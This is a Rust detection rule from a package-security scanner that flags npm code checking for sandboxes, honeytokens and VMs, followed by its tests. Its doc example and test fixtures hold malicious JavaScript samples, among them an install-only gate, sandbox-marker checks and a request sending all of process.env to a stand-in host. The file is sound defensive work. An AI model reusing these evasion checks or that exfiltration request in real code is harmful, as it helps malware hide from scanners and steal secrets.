//! `sandbox-evasion`: checks for honeytokens, analysis sandboxes and virtual machines.

use crate::declare_rule;
use crate::detect::campaigns;
use crate::rule::{Rule, RuleContext, RuleMeta};
use ferret_core::{Action, Capability, PackageFacts};

declare_rule! {
    /// ## What it does
    /// Reports code that looks for signs of being analysed before it acts: honeytokens
    /// (`AKIAIOSFODNN7EXAMPLE`, `PYPI_POISON_HONEY_TOKEN`), sandbox markers
    /// (`DetonationLogFilePath`, `SANDYCLAW_*`, `cuckoo`, a `supplysec` registry), lists of
    /// sandbox user names checked against `os.userInfo()`, a gate that runs only under
    /// `npm install` (`npm_package_name` with `process.exit`), and virtual-machine
    /// fingerprints. Two distinct signals are needed, one of them not a VM fingerprint.
    /// Warned when the same file also uses the network or reads the environment beyond
    /// single variables; otherwise recorded (monitor).
    ///
    /// ## Why is this a risk?
    /// Ordinary code has no reason to care whether it runs in a malware sandbox. Evasion
    /// checks are how payloads stay quiet in the scanners of registries and security vendors
    /// and fire on real machines; they raise the weight of everything else in the package.
    ///
    /// ## Example
    /// ```js
    /// if (!process.env.npm_package_name) process.exit(0);
    /// if (["DetonationLogFilePath", "PYPI_POISON_HONEY_TOKEN"].some((m) => m in process.env)) process.exit(0);
    /// ```
    ///
    /// ## False positives
    /// System-information libraries list VM vendors (`VMware`, `VirtualBox`, `QEMU`); alone
    /// those never fire. Security tools that plant or detect honeytokens may warn.
    ///
    /// ## References
    /// - Feishu/Lark exfiltration campaign, ossf/malicious-packages#1332 (2026)
    SandboxEvasion, id = "sandbox-evasion", category = Malicious, severity = Medium, action = Warn,
}

impl Rule for SandboxEvasion {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check_package(&self, pkg: &PackageFacts, cx: &mut RuleContext) {
        let detected = cx.shared(pkg, campaigns::Campaigns::detect);
        let Some(ev) = detected.get(Self::META.id) else {
            return;
        };
        // Evasion matters when there is something to hide: a network sink or an env dump in
        // the file that checks.
        let path = ev.steps.first().map(|(l, _, _)| l.path.as_str());
        let acts = path.and_then(|p| pkg.file(p)).is_some_and(|f| {
            f.uses.iter().any(|u| {
                (u.capability == Capability::Network && u.kind != ferret_core::UseKind::Import)
                    || (u.capability == Capability::Env && u.detail.as_deref() == Some("*"))
            })
        });
        let action = if acts {
            Self::META.default_action
        } else {
            Action::Monitor
        };
        if let Some(f) = ev.finding(&Self::META, action) {
            cx.report(f);
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::tester::Tester;
    use ferret_core::Action;

    const FEISHU: &str = "const https = require('https');\n\
        if (!process.env.npm_package_name) process.exit(0);\n\
        const markers = ['DetonationLogFilePath', 'PYPI_POISON_HONEY_TOKEN'];\n\
        if (markers.some((m) => m in process.env)) process.exit(0);\n\
        https.request({ hostname: 'collector.example', method: 'POST' }).end(JSON.stringify(process.env));\n";

    #[test]
    fn sandbox_evasion() {
        let pass = [
            // systeminformation-style VM detection.
            (
                "lib/system.js",
                "const os = require('os'); const vm = ['VMware', 'VirtualBox', 'QEMU', 'KVM'];\n\
                 module.exports = () => vm.find((v) => os.hostname().includes(v));",
            ),
            // CI detection (is-ci, ci-info).
            (
                "index.js",
                "module.exports = !!(process.env.CI || process.env.GITHUB_ACTIONS || process.env.JENKINS_URL);",
            ),
            // An iframe sandbox attribute and one marker-like word.
            (
                "frame.js",
                "el.setAttribute('sandbox', 'allow-scripts'); const bird = 'cuckoo clock';",
            ),
        ];
        let fail = [
            ("lib/init.js", FEISHU),
            (
                "index.js",
                "const os = require('os');\n\
                 const users = ['sandbox', 'malware', 'virus', 'analyst'];\n\
                 if (users.includes(os.userInfo().username) || os.hostname().includes('maltest')) process.exit(0);",
            ),
        ];
        let t = Tester::new(super::SandboxEvasion).pass(pass).fail(fail);
        t.test_and_snapshot();
        assert_eq!(
            t.findings([("lib/init.js", FEISHU)])[0].action,
            Action::Warn
        );
        let quiet = t.findings([(
            "index.js",
            "const m = ['DetonationLogFilePath', 'SANDYCLAW_HOME']; module.exports = m.some((k) => k in process.env);",
        )]);
        assert_eq!(quiet[0].action, Action::Monitor);
    }
}
